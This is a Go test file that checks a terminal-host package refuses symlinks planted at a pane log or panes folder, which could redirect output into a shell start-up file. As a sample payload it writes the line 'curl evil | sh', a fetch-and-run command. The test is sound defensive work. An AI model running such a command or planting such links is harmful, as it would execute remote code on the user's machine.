package ptyhost

import (
	"bytes"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A teammate can plant a link where an in-process teammate's output is
// logged. Followed, that output (the teammate's messages among it) would
// be appended to the file it leads to, a shell's start-up file for one,
// or attach would print some other file. The host refuses, naming it.
func TestPlantedLinksAtAPaneLog(t *testing.T) {
	cases := map[string]func(p Paths, outFile, outDir string) string{
		"log": func(p Paths, outFile, _ string) string {
			os.MkdirAll(p.Dir(), 0o700)
			os.Symlink(outFile, p.Log)
			return p.Log
		},
		"panes folder": func(p Paths, _, outDir string) string {
			os.MkdirAll(filepath.Dir(p.Dir()), 0o700)
			os.Symlink(outDir, p.Dir())
			return p.Dir()
		},
	}
	for name, plant := range cases {
		t.Run(name, func(t *testing.T) {
			p := PathsFor(filepath.Join(t.TempDir(), "teams", "t"), "w")
			outDir := t.TempDir()
			outFile := filepath.Join(outDir, "bashrc")
			before := []byte("# my shell\n")
			os.WriteFile(outFile, before, 0o644)
			named := plant(p, outFile, outDir)

			l, err := openLog(p, 100)
			if err == nil {
				l.Write([]byte("curl evil | sh\n"))
				l.Close()
			}
			if err == nil || !strings.Contains(err.Error(), named) {
				t.Errorf("openLog = %v, want an error naming %s", err, named)
			}
			var out bytes.Buffer
			if _, err := CopyLog(p, io.Writer(&out)); err == nil || out.Len() > 0 {
				t.Errorf("attach printed %q through the link (err %v)", out.String(), err)
			}
			if b, _ := os.ReadFile(outFile); !bytes.Equal(b, before) {
				t.Errorf("the file outside changed: %q", b)
			}
			if ents, _ := os.ReadDir(outDir); len(ents) != 1 {
				t.Errorf("files were made outside: %d entries", len(ents))
			}
		})
	}
}
